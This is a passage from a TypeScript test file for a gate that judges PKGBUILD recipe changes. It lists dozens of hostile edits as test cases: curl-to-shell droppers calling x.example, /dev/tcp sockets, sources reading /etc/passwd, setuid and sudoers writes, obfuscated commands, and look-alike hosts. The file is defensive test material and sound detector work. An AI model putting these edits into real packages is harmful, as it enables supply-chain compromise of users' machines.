import { describe, expect, test } from "vitest";
import { judge, type JudgeContext, type RecipeFile, type Verdict } from "../../tools/gate/judge.ts";
import { bumped, context, file, filesOf, recipes, type RecipeName } from "./recipes.ts";

interface Attack {
  readonly name: string;
  readonly recipe: RecipeName;
  /** The recipe stays as it is; else it has an honest new version. */
  readonly unchanged?: true;
  /** What the recipe has before and after. */
  readonly has?: (pkgbuild: string) => string;
  /** What the recipe was already, and is in its new version too where `edit` says nothing else. */
  readonly before?: (pkgbuild: string) => string;
  readonly edit?: (pkgbuild: string) => string;
  readonly files?: Readonly<Record<string, string | RecipeFile | undefined>>;
  readonly context?: Partial<JudgeContext>;
}

const atTop = (line: string) => (text: string) => `${line}\n${text}`;
const atEnd = (line: string) => (text: string) => `${text}\n${line}\n`;
const inFunction = (name: string, line: string) => (text: string) =>
  text.replace(new RegExp(`^${name}\\(\\) \\{\n`, "m"), (head) => `${head}  ${line}\n`);
const inPackage = (line: string) => inFunction("package", line);
const inBuild = (line: string) => inFunction("build", line);
const replace = (old: string, now: string) => (text: string) => {
  if (!text.includes(old)) throw new Error(`nothing to replace: ${old}`);
  return text.replaceAll(old, now);
};

const withDocument = (line: string) => (text: string) =>
  `${text}check() { cat > glow <<EOT ;}\n#!/bin/sh\n${line}\nEOT\n`;

const elf: RecipeFile = { mode: "100755", bytes: Uint8Array.from([0x7f, 0x45, 0x4c, 0x46, 1, 2, 3, 0]) };

/** Of `cmake`: one more source, beside the program's own. */
const withSource = (entry: string, digit: string) => (text: string) =>
  text
    .replace(" fix.patch)", ` fix.patch "${entry}")`)
    .replace(/^(sha256sums=.*)\)$/m, `$1 '${digit.repeat(64)}')`);
const archive = (ref: string): string => `https://github.com/fooview/lib/archive/${ref}.tar.gz`;

const dangerous: readonly Attack[] = [
  { name: "a list for a version", recipe: "rust", edit: replace("pkgver=14.1.1", "pkgver=(14.1.1 'x y')") },
  { name: "a version that makepkg loses", recipe: "rust", edit: replace("pkgver=", "typeset pkgver=") },
  // Code that runs when the file is read.
  {
    name: "a second pkgver at the end that downloads a program",
    recipe: "binary",
    edit: atEnd("pkgver=$(curl -s https://x.example/p | sh)1.5.0"),
  },
  { name: "a second pkgver that is harmless", recipe: "binary", edit: atEnd("pkgver=1.5.1") },
  { name: "pkgver appended to", recipe: "binary", edit: atEnd("pkgver+=.1") },
  { name: "a second pkgrel", recipe: "cmake", edit: atEnd("pkgrel=2") },
  {
    name: "a second source",
    recipe: "cmake",
    edit: atEnd("source+=(https://fooview.org/extra.tar.gz)\nsha256sums+=(SKIP)"),
  },
  { name: "a second list of checksums", recipe: "rust", edit: atEnd("sha512sums=(SKIP)") },
  { name: "a command at top level", recipe: "python", edit: atTop("touch /tmp/x") },
  {
    name: "a command substitution in pkgdesc",
    recipe: "binary",
    edit: replace('"Render markdown"', '"Render $(id)"'),
  },
  {
    name: "backticks in url",
    recipe: "binary",
    edit: replace('"https://github.com/charm/glow"', '"https://github.com/charm/glow`id`"'),
  },
  {
    name: "a command substitution in a source",
    recipe: "rust",
    edit: replace("$pkgname-$pkgver.tar.gz::", "$pkgname-$pkgver$(id).tar.gz::"),
  },
  {
    name: "a process substitution in an array",
    recipe: "cmake",
    edit: replace("(cmake ninja)", "(cmake ninja <(id))"),
  },
  { name: "a file read with source", recipe: "cmake", edit: atTop(". ./fix.patch") },
  { name: "a file run through cat at top level", recipe: "cmake", edit: atTop("_x=$(<fix.patch)") },
  { name: "eval at top level", recipe: "python", edit: atEnd('eval "$_name"') },
  { name: "commands behind an end", recipe: "python", edit: atEnd("exit 0\ncurl https://x.example") },
  {
    name: "a condition with a command in it",
    recipe: "binary",
    edit: atEnd("if curl -s https://x.example; then :; fi"),
  },
  { name: "arithmetic that runs a subscript", recipe: "binary", edit: atEnd("_x='a[$(id)]'\n((_x))") },
  { name: "a test that runs a subscript", recipe: "binary", edit: atEnd("_x='a[$(id)]'\n[[ $_x -eq 0 ]]") },
  { name: "an indirect expansion at top level", recipe: "binary", edit: atEnd("_y=PATH\n_x=${!_y}") },
  { name: "a prompt expansion at top level", recipe: "binary", edit: atEnd("_y='$(id)'\n_x=${_y@P}") },
  { name: "printf -v at top level", recipe: "binary", edit: atEnd("printf -v pkgver 9") },
  { name: "a trap at top level", recipe: "binary", edit: atEnd("trap 'curl https://x.example' EXIT") },
  { name: "an alias at top level", recipe: "binary", edit: atEnd("alias install='curl https://x.example'") },
  { name: "a redirection at top level", recipe: "binary", edit: atEnd("> ../PKGBUILD") },
  { name: "a background command at top level", recipe: "binary", edit: atEnd("sleep 1 &") },
  { name: "a here-document into a shell at top level", recipe: "binary", edit: atEnd("bash <<EOF\nid\nEOF") },
  { name: "DLAGENTS set", recipe: "binary", edit: atEnd("DLAGENTS=('https::/usr/bin/evil %u')") },
  { name: "VCSCLIENTS set", recipe: "vcs", edit: atEnd("VCSCLIENTS=('git::evil')") },
  { name: "PATH changed at top level", recipe: "binary", edit: atEnd("PATH=$PWD:/usr/bin") },
  { name: "LD_PRELOAD exported", recipe: "binary", edit: atEnd("export LD_PRELOAD=./x.so") },
  { name: "GIT_SSH_COMMAND exported", recipe: "vcs", edit: atEnd("export GIT_SSH_COMMAND='sh -c id'") },
  { name: "PACMAN_AUTH set", recipe: "vcs", edit: atEnd("PACMAN_AUTH=(sh -c)") },
  { name: "BUILDENV set", recipe: "vcs", edit: atEnd("BUILDENV=(!check)") },
  { name: "one of makepkg's own functions", recipe: "binary", edit: atEnd("msg2() {\n  :\n}") },
  {
    name: "a function named as a program",
    recipe: "binary",
    edit: atEnd('install() {\n  command install "$@"\n}'),
  },
  { name: "a function named as a builtin", recipe: "binary", edit: atEnd('cd() {\n  builtin cd "$@"\n}') },
  { name: "a second build()", recipe: "rust", edit: atEnd("build() {\n  true\n}") },
  {
    name: "a function that hides in a condition",
    recipe: "rust",
    edit: atEnd("[[ -n $x ]] && build() { true; }"),
  },
  // What a variable holds for a while, whatever it comes to in the end.
  ...[
    ["text for eval", `_t='echo hi'\neval "$_t"\n_t=''`, "'echo hi'", "'curl https://x.example | sh'"],
    ["an argument", "_t=hello\n_stamp=$(echo $_t)\n_t=", "hello", "'-n evil'"],
    ["a command's name", "_t=date\n_stamp=$($_t)\n_t=", "=date", "=/usr/bin/evil"],
    ["PATH", "PATH=/usr/bin\n_s=$(date)\nPATH=/usr/bin", "PATH=/usr/bin\n_s", "PATH=./x\n_s"],
    ["a name that programs know", "LANG=C\n_s=$(date)\nLANG=C", "LANG=C\n_s", "LANG=evil\n_s"],
    ["a value within a group", "{ _k=good; echo $_k; _k=; }", "good", "evil"],
    ["a value within a condition", "if [[ -n $X ]]; then\n_k=good\n_z=$(echo $_k)\n_k=\nfi", "good", "evil"],
    ["a value within a loop", 'for _i in 1; do\n_k=good\neval "_z=$_k"\n_k=\ndone', "good", "evil"],
    ["a value that a loop takes away", 'v=good\neval "$v"\nfor v in ""; do :; done', "good", "evil"],
    ["a value handed on", '_t=good\n_u=$_t\neval "$_u"\n_t=\n_u=', "good", "evil"],
    ["a value handed on unknown", '_t=$HOME/good\n_u=$_t\neval "$_u"', "good", "evil"],
    ["an element", '_t[0]=good\neval "${_t[0]}"\n_t[0]=', "good", "evil"],
    ["what pkgver is later", '_p=good\neval "$_p"\n_p=1', "good", "evil"],
  ].map(([name = "", lines = "", good = "", evil = ""]): Attack => ({
    name: `${name} that is set for code in between`,
    recipe: "rust",
    has: atEnd(lines),
    edit: replace(good, evil),
  })),
  {
    name: "a pkgver that is code before it is the version",
    recipe: "rust",
    has: atTop('pkgver=good\neval "$pkgver"'),
    edit: replace("pkgver=good", "pkgver=evil"),
  },
  // Texts that bash reads otherwise than it seems.
  {
    name: "another host behind a slash that belongs to a pattern",
    recipe: "binary",
    edit: replace("https://github.com/charm/glow/rel", "${url///github.com*//evil.example}/rel"),
    files: { ".SRCINFO": filesOf("binary", bumped("binary")).get(".SRCINFO") },
  },
  {
    name: "another host behind a letter in braces",
    recipe: "binary",
    edit: replace("https://github.com/charm/glow/rel", "${url/$'\\x{68}'*/https:\\/\\/evil.example}/rel"),
  },
  {
    name: "a pattern that its first character's expansion anchors",
    recipe: "binary",
    edit: (text) =>
      replace(
        "https://github.com/charm/glow/rel",
        "${url/$_h*/https:\\/\\/evil.example}/rel",
      )(atTop("_h='#h'")(text)),
  },
  {
    name: "a word in braces behind an escaped quote",
    recipe: "binary",
    edit: inPackage("$'\\'\\x62'un add x"),
  },
  { name: "a word in octal digits that are too large", recipe: "binary", edit: inPackage("$'\\542un' x") },
  {
    name: "the signer's keys before the beginning",
    recipe: "cmake",
    edit: replace("validpgpkeys=(", "validpgpkeys=([-1]="),
  },
  {
    name: "checksums before the beginning",
    recipe: "rust",
    edit: replace("sha512sums=(", "sha512sums=([-1]="),
  },
  {
    name: "dependencies before the beginning",
    recipe: "cmake",
    edit: replace("depends=(qt6", "depends=([-1]=qt6"),
  },
  {
    name: "braces behind a subscript",
    recipe: "cmake",
    edit: replace(
      "validpgpkeys=('ABCDEF0123456789ABCDEF0123456789ABCDEF01')",
      "validpgpkeys=([0]={ABCDEF0123456789ABCDEF0123456789ABCDEF01,'x'})",
    ),
  },
  {
    name: "a here-document that begins where a function ends",
    recipe: "binary",
    before: withDocument("exec glow-real"),
    edit: withDocument("curl -s https://x.example | sh"),
  },
  {
    name: "checksums that makepkg loses",
    recipe: "rust",
    edit: replace("sha512sums=", "declare -a sha512sums="),
  },
  {
    name: "a source that makepkg takes for what it was",
    recipe: "rust",
    edit: (text) =>
      text.replace(
        /^source=/m,
        "source=(https://github.com/evil/riptool/archive/v14.1.1.tar.gz)\ndeclare source=",
      ),
  },
  {
    name: "a process substitution within an expansion",
    recipe: "binary",
    edit: replace('"Render markdown"', "${_unset:-<(id)}"),
  },
  {
    name: "a process substitution for what is replaced",
    recipe: "binary",
    edit: replace("pkgver=1.5.0", "pkgver=1.5.0\n_x=${pkgver/5/>(id)}"),
  },
  {
    name: "a name that goes on behind a quote",
    recipe: "binary",
    edit: replace('"Render markdown"', '"${pkgver:+$pkgn"ame"}"'),
  },
  {
    name: "text directly behind an array",
    recipe: "cmake",
    edit: replace("depends=(qt6-base)", "depends=(qt6-base)x=1"),
  },
  // Sources and checksums.
  {
    name: "a checksum that became SKIP",
    recipe: "rust",
    edit: (text) => text.replace(/sha512sums=\('.*'\)/, "sha512sums=(SKIP)"),
  },
  {
    name: "a checksum that became SKIP for one architecture",
    recipe: "binary",
    edit: (text) => text.replace(/sums_aarch64=\('.*'\)/, "sums_aarch64=(SKIP)"),
  },
  {
    name: "a weaker kind of checksum",
    recipe: "rust",
    edit: (text) => text.replace(/sha512sums=\('.*'\)/, `md5sums=(${"a".repeat(32)})`),
  },
  { name: "checksums that are gone", recipe: "rust", edit: (text) => text.replace(/sha512sums=.*\n/, "") },
  {
    name: "a source from an address without a name",
    recipe: "cmake",
    edit: replace("https://fooview.org/releases", "https://203.0.113.9/releases"),
  },
  {
    name: "credentials in a source",
    recipe: "cmake",
    edit: replace("https://fooview.org/releases", "https://fooview.org@evil.example/releases"),
  },
  {
    name: "a look-alike host",
    recipe: "cmake",
    edit: replace("https://fooview.org/releases", "https://f\u043eoview.org/releases"),
  },
  {
    name: "a punycode host",
    recipe: "cmake",
    edit: replace("https://fooview.org/releases", "https://xn--fooview-x.org/releases"),
  },
  {
    name: "a source through ext::",
    recipe: "vcs",
    edit: replace("git+https://github.com/bar/bar.git", "'bar::git+ext::sh -c id%://x'"),
  },
  { name: "a source of this machine", recipe: "cmake", edit: replace("fix.patch)", "file:///etc/passwd)") },
  { name: "a source outside the folder", recipe: "cmake", edit: replace("fix.patch)", "../../etc/passwd)") },
  {
    name: "a stranger's repository named patches, run in package()",
    recipe: "binary",
    edit: (text) =>
      atEnd("source=(patches::git+https://github.com/stranger/zenbrowser-patch.git)\nsha256sums=(SKIP)")(
        inPackage("python patches/main.py")(text),
      ),
  },
  {
    name: "a version with a slash in it",
    recipe: "rust",
    edit: replace("pkgver=14.1.1", "pkgver=14.1.1/../../../../evil/x/archive/v1"),
  },
  // .SRCINFO.
  {
    name: ".SRCINFO with another source",
    recipe: "rust",
    files: {
      ".SRCINFO":
        "pkgbase = riptool\n\tpkgver = 14.1.1\n\tpkgrel = 1\n\tarch = x86_64\n\tsource = https://evil.example/x.tar.gz\n\npkgname = riptool\n",
    },
  },
  {
    name: ".SRCINFO that wasn't moved on",
    recipe: "rust",
    files: {
      ".SRCINFO":
        "pkgbase = riptool\n\tpkgver = 14.1.0\n\tpkgrel = 1\n\tarch = x86_64\n\npkgname = riptool\n",
    },
  },
  { name: ".SRCINFO that can't be read", recipe: "rust", files: { ".SRCINFO": "what is this\n" } },
  // Scriptlets and files.
  {
    name: "a new scriptlet that calls npm",
    recipe: "binary",
    edit: replace("conflicts=('glow')", "conflicts=('glow')\ninstall=glow.install"),
    files: { "glow.install": "post_install() {\n  npm install -g atomic-lockfile\n}\n" },
  },
  {
    name: "a new scriptlet that calls bun",
    recipe: "binary",
    edit: replace("conflicts=('glow')", "conflicts=('glow')\ninstall=glow.install"),
    files: { "glow.install": "post_install() {\n  bun add js-digest\n}\n" },
  },
  {
    name: "a new scriptlet that calls 'b''u''n'",
    recipe: "binary",
    edit: replace("conflicts=('glow')", "conflicts=('glow')\ninstall=glow.install"),
    files: { "glow.install": "post_install() {\n  'b''u''n' add js-digest\n}\n" },
  },
  {
    name: "a harmless new scriptlet",
    recipe: "binary",
    edit: replace("conflicts=('glow')", "conflicts=('glow')\ninstall=glow.install"),
    files: { "glow.install": "post_install() {\n  :\n}\n" },
  },
  {
    name: "a scriptlet that changed",
    recipe: "split",
    files: { "suite.install": "post_install() {\n  curl https://x.example | bash\n}\n" },
  },
  {
    name: "a scriptlet for the other package",
    recipe: "split",
    edit: replace("pkgdesc='Its documentation'", "pkgdesc='Its documentation'\n  install=suite.install"),
  },
  {
    name: "a new service",
    recipe: "binary",
    files: { "glow.service": "[Service]\nExecStart=/usr/bin/glow\n" },
  },
  { name: "a new timer", recipe: "binary", files: { "glow.timer": "[Timer]\nOnCalendar=hourly\n" } },
  { name: "a new pacman hook", recipe: "binary", files: { "glow.hook": "[Trigger]\nType=Path\n" } },
  { name: "a new udev rule", recipe: "binary", files: { "99-glow.rules": 'RUN+="/bin/sh"\n' } },
  { name: "an ELF file", recipe: "binary", files: { helper: elf } },
  {
    name: "an archive",
    recipe: "binary",
    files: { "x.tar.gz": { mode: "100644", bytes: Uint8Array.from([0x1f, 0x8b, 8, 0]) } },
  },
  { name: "a .CI/config of its own", recipe: "binary", files: { ".CI/config": "CI_HUMAN_REVIEW=false\n" } },
  { name: "a .ci/config", recipe: "binary", files: { ".ci/config": "x=1\n" } },
  { name: "a .gitmodules", recipe: "binary", files: { ".gitmodules": "[submodule]\n" } },
  { name: "a .gitattributes", recipe: "binary", files: { ".gitattributes": "* filter=x\n" } },
  { name: "a file name that no file system takes", recipe: "binary", files: { ["x".repeat(256)]: "" } },
  {
    name: "a path that no system takes",
    recipe: "binary",
    files: { [`${"x".repeat(200)}/`.repeat(21).slice(0, -1)]: "" },
  },
  { name: "a file very deep down", recipe: "binary", files: { [`${"x/".repeat(21)}x`]: "" } },
  { name: "a file that is a folder, too", recipe: "binary", files: { x: "", "x/y": "" } },
  { name: "a .git with an invisible letter", recipe: "binary", files: { ".g\u200cit/config": "" } },
  { name: "a .git by its short name", recipe: "binary", files: { "git~1/config": "" } },
  { name: "a .CI with a dot behind it", recipe: "binary", files: { ".CI./config": "" } },
  { name: "an invisible letter in a file's name", recipe: "binary", files: { "PKG\u2060BUILD": "" } },
  { name: "an invisible filler in a file's name", recipe: "binary", files: { "x\u3164": "" } },
  { name: "a submodule", recipe: "binary", files: { sub: { mode: "160000", bytes: new Uint8Array() } } },
  { name: "a link that leaves the folder", recipe: "binary", files: { x: file("../../.ssh/id", "120000") } },
  {
    name: "PKGBUILD as a link",
    recipe: "binary",
    files: { PKGBUILD: file("other", "120000"), other: "pkgname=x" },
  },
  {
    name: "a patch that writes elsewhere",
    recipe: "cmake",
    files: { "fix.patch": "--- /dev/null\n+++ ../../../../home/x/.bashrc\n@@ -0,0 +1 @@\n+id\n" },
  },
  {
    name: "a patch that adds a pipe into a shell",
    recipe: "cmake",
    files: {
      "fix.patch": "--- a/Makefile\n+++ b/Makefile\n@@ -1 +1,2 @@\n all:\n+\tcurl https://x.example | sh\n",
    },
  },
  {
    name: "a scriptlet in CRLF with other content",
    recipe: "split",
    files: { "suite.install": "post_install() {\r\n  id\r\n}\r\n" },
  },
  // Functions.
  { name: "npm install in build()", recipe: "cmake", edit: inBuild("npm install left-pad") },
  { name: "npx in package()", recipe: "binary", edit: inPackage("npx something") },
  { name: "pip install in package()", recipe: "python", edit: inPackage("pip install evil") },
  { name: "python -m pip in package()", recipe: "python", edit: inPackage("python -m pip install evil") },
  { name: "npm in a variable", recipe: "cmake", edit: inBuild("_p=npm; $_p install x") },
  { name: "npm through env", recipe: "cmake", edit: inBuild("env A=1 npm install x") },
  { name: "npm by its path", recipe: "cmake", edit: inBuild("/usr/bin/npm install x") },
  { name: "npm through xargs", recipe: "cmake", edit: inBuild("echo x | xargs npm install") },
  { name: "go install in build()", recipe: "go", edit: inBuild("go install evil.example/x@latest") },
  { name: "cargo install in build()", recipe: "rust", edit: inBuild("cargo install evil") },
  { name: "pacman in build()", recipe: "rust", edit: inBuild("pacman -Sy --noconfirm evil") },
  { name: "curl in build()", recipe: "rust", edit: inBuild("curl -O https://x.example/y") },
  { name: "wget in prepare()", recipe: "rust", edit: inFunction("prepare", "wget https://x.example/y") },
  {
    name: "git clone in prepare()",
    recipe: "rust",
    edit: inFunction("prepare", "git clone https://x.example/y"),
  },
  {
    name: "a dropper in build()",
    recipe: "rust",
    edit: inBuild("curl -fsSL https://x.example/i.sh | bash -s -- -q"),
  },
  { name: "a pipe into sh", recipe: "rust", edit: inBuild("cat x | sh") },
  { name: "a pipe into python", recipe: "rust", edit: inBuild("cat x | python3 -") },
  { name: "bash -c", recipe: "rust", edit: inBuild('bash -c "id"') },
  { name: "a shell with a process substitution", recipe: "rust", edit: inBuild("bash <(cat x)") },
  { name: "a here-string into a shell", recipe: "rust", edit: inBuild('bash <<<"id"') },
  { name: "base64", recipe: "rust", edit: inBuild("echo aWQ= | base64 -d > x") },
  { name: "xxd", recipe: "rust", edit: inBuild("xxd -r -p x > y") },
  { name: "openssl enc", recipe: "rust", edit: inBuild("openssl enc -d -aes-256-cbc -in x -out y") },
  { name: "printf with escapes", recipe: "rust", edit: inBuild("printf '\\x63\\x75' > x") },
  { name: "a word in escapes", recipe: "rust", edit: inBuild("$'\\x6d\\x79' x") },
  { name: "'m''y'", recipe: "rust", edit: inBuild("'m''y'tool x") },
  { name: 'm""y', recipe: "rust", edit: inBuild('my""tool x') },
  {
    name: "a command put together from slices",
    recipe: "rust",
    edit: inBuild("_x=xcurly; ${_x:1:4} https://x.example"),
  },
  {
    name: "a command put together from variables",
    recipe: "rust",
    edit: inBuild("_a=cu _b=rl; $_a$_b https://x.example"),
  },
  {
    name: "a command from a substitution",
    recipe: "rust",
    edit: inBuild("$(rev <<<lruc) https://x.example"),
  },
  { name: "eval in build()", recipe: "rust", edit: inBuild('eval "$x"') },
  { name: "an indirect expansion in build()", recipe: "rust", edit: inBuild("x=y; ${!x}") },
  { name: "printf -v in build()", recipe: "rust", edit: inBuild("printf -v PATH .") },
  { name: "sudo in build()", recipe: "rust", edit: inBuild("sudo id") },
  { name: "a setuid program", recipe: "binary", edit: inPackage('chmod u+s "$pkgdir/usr/bin/glow"') },
  {
    name: "a setuid program through install",
    recipe: "binary",
    edit: inPackage('install -Dm4755 glow "$pkgdir/usr/bin/glow2"'),
  },
  {
    name: "capabilities",
    recipe: "binary",
    edit: inPackage('setcap cap_sys_admin+ep "$pkgdir/usr/bin/glow"'),
  },
  { name: "a write into the home folder", recipe: "binary", edit: inPackage("echo x >> ~/.bashrc") },
  { name: "a write into $HOME", recipe: "binary", edit: inPackage('cp glow "$HOME/.local/bin/glow"') },
  { name: "a write into /usr", recipe: "binary", edit: inPackage("install -m755 glow /usr/bin/glow") },
  { name: "a write into /tmp", recipe: "binary", edit: inPackage("cp glow /tmp/glow") },
  { name: "a write above pkgdir", recipe: "binary", edit: inPackage('cp glow "$pkgdir/../../../x"') },
  {
    name: "a systemd unit from the source",
    recipe: "binary",
    edit: inPackage('install -Dm644 x.service "$pkgdir/usr/lib/systemd/system/x.service"'),
  },
  {
    name: "a cron job from the source",
    recipe: "binary",
    edit: inPackage('install -Dm644 x "$pkgdir/etc/cron.d/x"'),
  },
  {
    name: "a profile script from the source",
    recipe: "binary",
    edit: inPackage('install -Dm644 x "$pkgdir/etc/profile.d/x.sh"'),
  },
  {
    name: "ld.so.preload",
    recipe: "binary",
    edit: inPackage('echo /usr/lib/x.so > "$pkgdir/etc/ld.so.preload"'),
  },
  { name: "a sudoers file", recipe: "binary", edit: inPackage('install -Dm440 x "$pkgdir/etc/sudoers.d/x"') },
  {
    name: "an autostart entry",
    recipe: "binary",
    edit: inPackage('install -Dm644 x.desktop "$pkgdir/etc/xdg/autostart/x.desktop"'),
  },
  {
    name: "a libalpm hook",
    recipe: "binary",
    edit: inPackage('install -Dm644 x "$pkgdir/usr/share/libalpm/hooks/x.hook"'),
  },
  { name: "systemctl enable", recipe: "binary", edit: inPackage("systemctl enable x") },
  { name: "/dev/tcp", recipe: "rust", edit: inBuild("exec 3<>/dev/tcp/x.example/80") },
  { name: "a background process in build()", recipe: "rust", edit: inBuild("sleep 100 &") },
  { name: "nohup in build()", recipe: "rust", edit: inBuild("nohup ./x") },
  {
    name: "an unchanged command with another variable",
    recipe: "python",
    edit: replace("_name=my-tool", "_name='my-tool $(id)'"),
  },
  // Texts that hide.
  { name: "right-to-left override in a comment", recipe: "binary", edit: atEnd("# \u202e harmless") },
  { name: "a zero-width space", recipe: "binary", edit: replace("charm/glow", "charm\u200b/glow") },
  { name: "a Cyrillic letter in a command", recipe: "binary", edit: inPackage("m\u0430ke x") },
  {
    name: "a PKGBUILD that isn't UTF-8",
    recipe: "binary",
    files: { PKGBUILD: { mode: "100644", bytes: Uint8Array.from([0x70, 0xff, 0xfe]) } },
  },
  { name: "a PKGBUILD with a NUL", recipe: "binary", edit: atEnd("# \0") },
  { name: "a PKGBUILD that bash would refuse", recipe: "binary", edit: atEnd("fi") },
  { name: "no PKGBUILD", recipe: "binary", files: { PKGBUILD: undefined } },
  { name: "npm through a wildcard", recipe: "rust", edit: inBuild("/usr/bin/np? i x") },
  { name: "npm through braces", recipe: "rust", edit: inBuild("{npm,i,x}") },
  { name: "npm in an array", recipe: "rust", edit: inBuild('local c=(npm i x); "${c[@]}"') },
  {
    name: "npm through a function",
    recipe: "rust",
    edit: (text) => atEnd('_run() {\n  "$@"\n}')(inBuild("_run npm i x")(text)),
  },
  { name: "a command in other case", recipe: "rust", edit: inBuild("x=NPM; ${x,,} i y") },
  { name: "a command behind a default", recipe: "rust", edit: inBuild("${x:-npm} i y") },
  { name: "another IFS", recipe: "rust", edit: inBuild("IFS=_; x=npm_i_x; $x") },
  { name: "a name reference", recipe: "rust", edit: inBuild("local -n r=PATH; r=.") },
  {
    name: "python that runs programs",
    recipe: "rust",
    edit: inBuild("python -c 'import os; os.system(\"id\")'"),
  },
  { name: "perl that runs programs", recipe: "rust", edit: inBuild("perl -e 'exec \"id\"'") },
  { name: "awk that runs programs", recipe: "rust", edit: inBuild("awk 'BEGIN{system(\"id\")}'") },
  { name: "a here-document into python", recipe: "rust", edit: inBuild("python3 <<'E'\nimport urllib\nE") },
  { name: "find that runs a shell", recipe: "rust", edit: inBuild("find . -exec sh -c id \\;") },
  { name: "a coprocess", recipe: "rust", edit: inBuild("coproc foo { id; }") },
  { name: "an archive unpacked into /", recipe: "rust", edit: inPackage("tar -xf x -C /") },
  { name: "a write beside the PKGBUILD", recipe: "rust", edit: inPackage('echo > "$startdir/PKGBUILD"') },
  {
    name: "a function that writes elsewhere",
    recipe: "rust",
    edit: (text) => text.replace(/^build\(\) \{([^}]*)\}/m, "$& > /tmp/x"),
  },
  { name: "hooks of Git", recipe: "rust", edit: inBuild("git config core.hooksPath .") },
  { name: "a preloaded library for one command", recipe: "rust", edit: inBuild("LD_PRELOAD=./x.so make") },
  { name: "a version assigned in prepare()", recipe: "rust", edit: inFunction("prepare", "pkgver=15") },
  { name: "a scriptlet assigned in package()", recipe: "rust", edit: inPackage("install=evil.install") },
  { name: "a command behind an assignment", recipe: "rust", edit: replace("pkgrel=1", "pkgrel=1; touch x") },
  { name: "an assignment for a command", recipe: "rust", edit: replace("pkgrel=1", "pkgrel=1 id") },
  { name: "a byte order mark", recipe: "rust", edit: (text) => `\ufeff${text}` },
  // Names and people.
  {
    name: "replaces",
    recipe: "binary",
    edit: replace("conflicts=('glow')", "conflicts=('glow')\nreplaces=('pacman')"),
  },
  {
    name: "provides of a system package",
    recipe: "binary",
    edit: replace('provides=("glow=$pkgver")', 'provides=("glow=$pkgver" glibc)'),
  },
  { name: "another pkgname", recipe: "binary", edit: replace("pkgname=glow-bin", "pkgname=glibc") },
  {
    name: "an adopted package without a new version",
    recipe: "binary",
    unchanged: true,
    context: { maintainersAfter: ["mallory"] },
  },
  {
    name: "trust doesn't waive a download",
    recipe: "rust",
    edit: inBuild("curl -O https://x.example/y"),
    context: { trustedMaintainers: new Set(["ann"]), metadataTime: 2, recipeCommitTime: 1 },
  },
  {
    name: "allowed lines don't waive a download",
    recipe: "rust",
    edit: inBuild("curl -O https://x.example/y"),
    context: { allowedLines: [{ matches: () => true }] },
  },
];

const major: readonly Attack[] = [
  { name: "keys that makepkg loses", recipe: "cmake", edit: replace("validpgpkeys=", "local validpgpkeys=") },
  {
    name: "elements that moved to other indices",
    recipe: "binary",
    before: atEnd("_options=(--safe --fast)"),
    edit: atEnd("_options=([3]=--safe [4]=--fast)"),
  },
  {
    name: "another text in a here-document that begins where a function ends",
    recipe: "binary",
    before: withDocument("exec glow-real"),
    edit: withDocument("exec glow-other"),
  },
  { name: "a version that goes down", recipe: "binary", edit: replace("pkgver=1.5.0", "pkgver=1.3.0") },
  {
    name: "an older version behind a new epoch",
    recipe: "cmake",
    edit: (text) => text.replace("pkgver=2.2", "pkgver=1.0").replace("epoch=1", "epoch=2"),
  },
  {
    name: "a checksum that changed without a version",
    recipe: "rust",
    edit: (text) => text.replace("14.1.1", "14.1.0"),
  },
  {
    name: "another host",
    recipe: "cmake",
    edit: replace("https://fooview.org/releases", "https://fooview.example/releases"),
  },
  {
    name: "another owner",
    recipe: "binary",
    edit: replace("https://github.com/charm/glow/releases", "https://github.com/chrm/glow/releases"),
  },
  {
    name: "another owner for one architecture",
    recipe: "binary",
    edit: replace(
      "https://github.com/charm/glow/releases/download/v$pkgver/glow_Linux_arm64",
      "https://github.com/chrm/glow/releases/download/v$pkgver/glow_Linux_arm64",
    ),
  },
  {
    name: "another path",
    recipe: "cmake",
    edit: replace("https://fooview.org/releases", "https://fooview.org/~mallory"),
  },
  {
    name: "http for https",
    recipe: "cmake",
    edit: replace("https://fooview.org/releases", "http://fooview.org/releases"),
  },
  {
    name: "a version with a fragment in it",
    recipe: "rust",
    edit: replace("pkgver=14.1.1", "'pkgver=14.1.1#x'".replaceAll("'", "")),
  },
  {
    name: "a version with an at sign in it",
    recipe: "rust",
    edit: replace("pkgver=14.1.1", "pkgver=14.1.2@evil"),
  },
  { name: "a version with two dots in it", recipe: "rust", edit: replace("pkgver=14.1.1", "pkgver=14..2") },
  {
    name: "a helper that is no version",
    recipe: "go",
    edit: replace("_pkgver=1.2.0-beta.2", "_pkgver=1.2.0-beta.2?x"),
  },
  { name: "a fork's commit", recipe: "go" },
  {
    name: "a fork's commit in an archive's address",
    recipe: "rust",
    edit: replace(
      "archive/refs/tags/v$pkgver.tar.gz",
      "archive/76543210fedcba9876543210fedcba9876543210.tar.gz",
    ),
  },
  {
    name: "a dropped signature",
    recipe: "cmake",
    edit: (text) => text.replace("{,.sig}", "").replace("' SKIP '", "' '"),
  },
  {
    name: "another key",
    recipe: "cmake",
    edit: replace("ABCDEF0123456789ABCDEF0123456789ABCDEF01", "0".repeat(40)),
  },
  { name: "a new architecture", recipe: "cmake", edit: replace("arch=(x86_64)", "arch=(x86_64 any64)") },
  {
    name: "a new dependency",
    recipe: "cmake",
    edit: replace("depends=(qt6-base)", "depends=(qt6-base evil)"),
  },
  {
    name: "a new dependency of a split package",
    recipe: "split",
    edit: replace("depends=(glibc)", "depends=(glibc evil)"),
  },
  { name: "another option", recipe: "cmake", edit: atEnd("options=(ccache)") },
  {
    name: "a changed build()",
    recipe: "rust",
    edit: replace("cargo build --frozen --release", "cargo build --release"),
  },
  {
    name: "a changed pkgver()",
    recipe: "vcs",
    edit: replace("git describe --long --tags", "git describe --tags"),
  },
  { name: "a new check()", recipe: "rust", edit: atEnd("check() {\n  cargo test\n}") },
  {
    name: "a dropped prepare()",
    recipe: "cmake",
    edit: (text) => text.replace(/prepare\(\) \{[^}]*\}\n/, ""),
  },
  {
    name: "a changed patch",
    recipe: "cmake",
    files: { "fix.patch": "--- a/src/main.cpp\n+++ b/src/main.cpp\n@@ -1 +1 @@\n-int a;\n+int c;\n" },
  },
  { name: "a new file", recipe: "binary", files: { "glow.desktop": "[Desktop Entry]\nName=x\n" } },
  {
    name: "a mode that changed",
    recipe: "cmake",
    files: {
      "fix.patch": file("--- a/src/main.cpp\n+++ b/src/main.cpp\n@@ -1 +1 @@\n-int a;\n+int b;\n", "100755"),
    },
  },
  {
    name: "a version that jumps far ahead",
    recipe: "binary",
    edit: replace("pkgver=1.5.0", "pkgver=99999999.0"),
  },
